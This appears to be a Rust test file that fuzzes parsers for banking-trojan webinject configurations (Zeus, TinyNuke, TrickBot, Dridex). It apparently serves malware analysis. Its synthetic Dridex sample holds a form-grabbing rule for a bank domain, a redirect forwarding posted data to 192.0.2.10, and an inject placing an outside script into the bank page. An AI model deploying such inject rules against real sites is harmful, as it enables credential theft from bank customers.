//! Hostile inputs for every parser: seeded random mutations of the real files (truncation, byte
//! flips, deep nesting, huge values, duplicated slices, format tokens), plus large pathological
//! inputs that a quadratic path would not finish. Each must parse without panicking, in both
//! modes and through `parse_any`, and the output must hold no more content than the input.

use dropwatch_inject::{
    parse_any, parse_dridex, parse_tinynuke, parse_trickbot, parse_zeus, Diagnostic, Mode,
    ParseOutput,
};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

type Parser = fn(&[u8], Mode) -> Result<ParseOutput, Diagnostic>;

/// Synthetic Dridex configuration (no real one is public), from the tokens of webinjects.md §3.
const DRIDEX: &[u8] = br#"<settings hash="0123456789abcdef">
<httpshots><url type="deny" onget="1" onpost="1">\.(css|js|gif)</url></httpshots>
<formgrabber><url type="allow" onpost="1">.*bank\.example.*</url></formgrabber>
<redirect name="r" vnc="0" socks="0" postfwd="1" uri="http://192.0.2.10:8080/r/" timeout="20">.*bank\.example/.*\.js</redirect>
<httpinjects><httpinject><conditions><url type="allow" onget="1"><![CDATA[https://ib\.bank\.example/.*]]></url></conditions>
<actions><modify><pattern><![CDATA[(<head>)]]></pattern><replacement><![CDATA[$1<script src="https://x.example/a.js"></script>]]></replacement></modify></actions></httpinject></httpinjects>
</settings>
"#;

/// Content bytes of the output that come from the input: blocks, masks, optional arguments,
/// endpoints and attribute values (text counted in characters: a decoded character always
/// comes from at least one input byte).
fn content_len(out: &ParseOutput) -> usize {
    out.injects
        .iter()
        .map(|i| {
            let blocks: usize = i
                .blocks
                .iter()
                .map(|b| b.before.len() + b.inject.len() + b.after.len())
                .sum();
            let opts = [
                &i.post_blacklist,
                &i.post_whitelist,
                &i.url_block,
                &i.matched_context,
            ]
            .iter()
            .filter_map(|o| o.as_deref())
            .map(|s| s.chars().count())
            .sum::<usize>();
            blocks
                + i.url_mask.chars().count()
                + opts
                + i.endpoints.iter().map(|e| e.chars().count()).sum::<usize>()
                + i.attributes
                    .iter()
                    .map(|(_, v)| v.chars().count())
                    .sum::<usize>()
        })
        .sum()
}

fn mutate(
    rng: &mut ChaCha8Rng,
    base: &[u8],
    tokens: &[&[u8]],
    nest: &[u8],
    huge_at: u8,
) -> Vec<u8> {
    let mut v = base.to_vec();
    for _ in 0..rng.random_range(1..4) {
        let at = rng.random_range(0..=v.len());
        match rng.random_range(0..6) {
            0 => v.truncate(at),
            1 => {
                for _ in 0..rng.random_range(1..8) {
                    if v.is_empty() {
                        break;
                    }
                    let i = rng.random_range(0..v.len());
                    v[i] = rng.random();
                }
            }
            2 => {
                let n = rng.random_range(100..5_000);
                let deep: Vec<u8> = nest.iter().copied().cycle().take(nest.len() * n).collect();
                v.splice(at..at, deep);
            }
            3 => {
                // A huge value right after a quote (an attribute or a JSON string) or anywhere.
                let at = v.iter().position(|&b| b == huge_at).map_or(at, |i| i + 1);
                let n = rng.random_range(10_000..100_000);
                v.splice(at..at, std::iter::repeat_n(b'A', n));
            }
            4 => {
                let end = rng.random_range(at..=v.len().min(at + 2_000));
                let copy = v[at..end].to_vec();
                v.splice(at..at, copy);
            }
            _ => {
                let t = tokens[rng.random_range(0..tokens.len())];
                v.splice(at..at, t.iter().copied());
            }
        }
    }
    v
}

fn check(name: &str, input: &[u8], parser: Parser, factor: usize) {
    for mode in [Mode::Tolerant, Mode::Strict] {
        for (which, result) in [
            ("own", parser(input, mode)),
            ("any", parse_any(input, mode)),
        ] {
            if let Ok(out) = result {
                let len = content_len(&out);
                assert!(
                    len <= factor * input.len(),
                    "{name} {which} {mode:?}: {len} content bytes from {} input bytes",
                    input.len()
                );
                assert!(out.diagnostics.len() <= 1_000);
            } else {
                assert_eq!(mode, Mode::Strict, "{name}: tolerant mode never fails");
            }
        }
    }
}

fn run(
    name: &str,
    base: &[u8],
    parser: Parser,
    factor: usize,
    tokens: &[&[u8]],
    nest: &[u8],
    huge_at: u8,
) {
    let mut rng = ChaCha8Rng::seed_from_u64(0x5eed ^ base.len() as u64);
    check(name, base, parser, factor);
    for _ in 0..150 {
        let input = mutate(&mut rng, base, tokens, nest, huge_at);
        check(name, &input, parser, factor);
    }
}

#[test]
fn zeus_mutations() {
    let tokens: &[&[u8]] = &[
        b"\r\nset_url ",
        b"\r\ndata_before\r\n",
        b"\r\ndata_end\r\n",
        b"\r",
        b"\n",
        b"\"",
        b"'",
        b"\0",
        b"\xff",
    ];
    run(
        "zeus-kit",
        include_bytes!("data/zeus-2.0.8.9-kit-webinjects.txt"),
        parse_zeus,
        1,
        tokens,
        b"data_before\r\nset_url x GP\r\n",
        b'"',
    );
    run(
        "zeus-paypal",
        include_bytes!("data/zeus-2.0.8.9-kit-httpinjects-paypal.txt"),
        parse_zeus,
        1,
        tokens,
        b"data_inject\n",
        b'"',
    );
}

#[test]
fn tinynuke_mutations() {
    let tokens: &[&[u8]] = &[
        b"{",
        b"}",
        b"[",
        b"]",
        b",",
        b":",
        b"\"",
        b"\\u00",
        b"\"injects\":[",
        b"\"content\":[{\"code\":",
    ];
    // The anchor `code` is the one string that can appear twice (module docs), hence factor 2.
    run(
        "tinynuke",
        include_bytes!("data/tinynuke-injects.json"),
        parse_tinynuke,
        2,
        tokens,
        b"[{\"injects\":",
        b'"',
    );
}

#[test]
fn trickbot_mutations() {
    let tokens: &[&[u8]] = &[
        b"<dinj>",
        b"</dinj>",
        b"<lm>",
        b"</hl>",
        b"&amp;",
        b"&x;",
        b"<![CDATA[",
        b"<!DOCTYPE x [<!ENTITY x \"xx\">]>",
        b"<",
        b">",
        b"\xff",
    ];
    run(
        "dinj",
        include_bytes!("data/trickbot-dinj.xml"),
        parse_trickbot,
        1,
        tokens,
        b"<igroup><dinj a=\"1\">",
        b'<',
    );
    run(
        "sinj",
        include_bytes!("data/trickbot-sinj.xml"),
        parse_trickbot,
        1,
        tokens,
        b"<sinj>",
        b'<',
    );
}

#[test]
fn dridex_mutations() {
    let tokens: &[&[u8]] = &[
        b"<url type=\"deny\">",
        b"</url>",
        b"<modify>",
        b"]]>",
        b"<![CDATA[",
        b"&#65;",
        b"&lt;",
        b" uri=\"",
        b"\"",
    ];
    run(
        "dridex",
        DRIDEX,
        parse_dridex,
        1,
        tokens,
        b"<httpinject><actions>",
        b'"',
    );
}

/// Large inputs shaped to hit a quadratic path if there were one (each parses in well under a
/// second when linear; a quadratic parser would take minutes).
#[test]
fn large_pathological_inputs_finish() {
    let n = 100_000;
    let zeus: Vec<u8> = b"data_before\r\nset_url *a* GP\r\n".repeat(n);
    let out = parse_zeus(&zeus, Mode::Tolerant).unwrap();
    assert!(content_len(&out) <= zeus.len());
    let _ = parse_zeus(&zeus, Mode::Strict);
    let zeus2: Vec<u8> = b"set_url 'a' ''''''''''''''''''''''''''''''''''''''''\n".repeat(n / 4);
    let _ = parse_zeus(&zeus2, Mode::Tolerant).unwrap();

    let mut xml = b"<igroup>".to_vec();
    xml.extend(b"<dinj><lm>*a*</lm><hl>http://192.0.2.1/</hl></zz>".repeat(n / 2));
    xml.extend(b"<x>".repeat(n));
    xml.extend(b"</dinj>".repeat(n));
    let out = parse_trickbot(&xml, Mode::Tolerant).unwrap();
    assert_eq!(out.injects.len(), n / 2);
    assert!(out.diagnostics.len() <= 1_000);

    let mut json = b"{\"injects\":[".to_vec();
    json.extend(
        b"{\"host\":\"a\",\"path\":\"*\",\"content\":[{\"code\":\"x\",\"after\":\"y\"}]},"
            .repeat(n / 2),
    );
    json.extend(b"[".repeat(n));
    let out = parse_tinynuke(&json, Mode::Tolerant).unwrap();
    assert_eq!(out.injects.len(), n / 2);
    assert!(out.diagnostics.iter().any(|d| d.code == "T001"));

    let mut dridex = b"<settings><formgrabber>".to_vec();
    dridex.extend(b"<url type=\"allow\" onpost=\"1\">.*a.*</url>".repeat(n / 2));
    let out = parse_dridex(&dridex, Mode::Tolerant).unwrap();
    assert_eq!(out.injects.len(), n / 2);
}
